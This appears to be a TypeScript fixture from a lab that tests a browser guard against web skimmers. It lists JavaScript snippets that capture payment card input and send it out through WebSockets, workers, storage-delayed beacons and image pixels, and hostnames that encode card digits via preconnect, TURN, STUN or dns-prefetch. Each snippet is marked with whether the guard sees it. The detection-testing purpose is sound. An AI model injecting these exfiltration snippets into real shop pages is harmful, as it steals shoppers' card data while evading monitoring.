/** Channels over sockets, workers, names, and time. */
import type { LabChannel } from './channel.ts';

/** There before it is needed: a page does not wait for a worker that starts when it is left. */
const WORKER_CODE = `var code='function send(m){fetch(m.to,{method:"POST",mode:"no-cors",keepalive:true,body:m.n});}onmessage=function(e){send(e.data);};onconnect=function(e){e.ports[0].onmessage=function(m){send(m.data);};}';var url=URL.createObjectURL(new Blob([code]));`;

const socket = (send: string): string =>
  `var line=new WebSocket(to.replace('http','ws')+'/s');onCard(function(n,all){line.readyState===1&&line.send(${send});});`;

const stored = (key: string, store: string): string => `onCard(function(n,all){${store}.setItem('${key}',all);});`;
const taken = (key: string, store: string, send: string): string =>
  `var kept=${store}.getItem('${key}');if(!kept)return;${store}.removeItem('${key}');${send}`;

const NO_NAMES =
  'behind the guard a page resolves no names, so that it is not looked up; only what connects ahead, or over TCP, shows';

export const CONNECTIONS: readonly LabChannel[] = [
  { name: 'socket-text', how: 'WebSocket, text', code: socket('all'), seen: 'plain' },
  { name: 'socket-blob', how: 'WebSocket, Blob', code: socket('new Blob([all])'), seen: 'plain' },
  { name: 'socket-bytes', how: 'WebSocket, bytes', code: socket('new TextEncoder().encode(all)'), seen: 'plain' },
  {
    name: 'worker',
    how: 'dedicated worker',
    code: `${WORKER_CODE}var w=new Worker(url);onTyped(function(n){w.postMessage({to:to+'/c',n:n});});`,
    seen: 'plain',
  },
  {
    name: 'shared-worker',
    how: 'shared worker',
    code: `${WORKER_CODE}var w=new SharedWorker(url);w.port.start();onTyped(function(n){w.port.postMessage({to:to+'/c',n:n});});`,
    seen: 'plain',
  },
  {
    name: 'service-worker',
    how: 'service worker of the shop, told by a message',
    code: `quiet(navigator.serviceWorker.register('/sender-sw.js'));onTyped(function(n){
navigator.serviceWorker.ready.then(function(r){r.active.postMessage({to:to+'/c',all:n});});});`,
    seen: 'plain',
  },
  {
    name: 'storage-next-page',
    how: 'kept in sessionStorage, sent from the next page',
    code: stored('cart-note', 'sessionStorage'),
    later: taken('cart-note', 'sessionStorage', `navigator.sendBeacon(to+'/c',kept);`),
    seen: 'plain',
  },
  {
    name: 'storage-delayed',
    how: 'kept in localStorage, sent a second after the next page',
    code: `onCard(function(n,all){localStorage.setItem('cart-later',all);});`,
    later: `var kept=localStorage.getItem('cart-later');localStorage.removeItem('cart-later');if(!kept)return;
setTimeout(function(){new Image().src=to+'/l.gif?d='+encodeURIComponent(kept);},1000);`,
    seen: 'plain',
  },
  {
    name: 'minute-later',
    how: 'kept in localStorage, sent a minute later',
    code: `onCard(function(n,all){localStorage.setItem('cart-minute',all);});`,
    later: `var kept=localStorage.getItem('cart-minute');if(!kept)return;
setTimeout(function(){navigator.sendBeacon(to+'/c',kept);},60000);`,
    seen: {
      never: 'a visit listens for seconds after its last step; a script that waits longer is in the inventory alone',
    },
  },
  {
    name: 'preconnect',
    how: 'name that is connected to ahead of need',
    code: `onCard(function(n){var l=document.createElement('link');l.rel='preconnect';l.href=to.replace('//','//n'+n+'.');document.head.append(l);});`,
    seen: 'plain',
    silent: true,
  },
  {
    name: 'turn',
    how: 'name of a WebRTC relay over TCP',
    code: `onCard(function(n){var p=new RTCPeerConnection({iceServers:[{urls:'turn:n'+n+'.'+host.split(':')[0]+':3478?transport=tcp',username:'u',credential:'c'}]});
p.createDataChannel('x');p.createOffer().then(function(o){return p.setLocalDescription(o);});});`,
    seen: 'plain',
    silent: true,
  },
  {
    name: 'stun',
    how: 'name of a STUN server',
    code: `onCard(function(n){var p=new RTCPeerConnection({iceServers:[{urls:'stun:n'+n+'.'+host.split(':')[0]+':3478'}]});
p.createDataChannel('x');p.createOffer().then(function(o){return p.setLocalDescription(o);});});`,
    seen: { never: `UDP past the guard is closed to pages, and a STUN server is asked over UDP alone; ${NO_NAMES}` },
    silent: true,
  },
  {
    name: 'dns-prefetch',
    how: 'link rel=dns-prefetch',
    code: `onCard(function(n){var l=document.createElement('link');l.rel='dns-prefetch';l.href=to.replace('//','//n'+n+'.');document.head.append(l);});`,
    seen: { never: NO_NAMES },
    silent: true,
  },
];
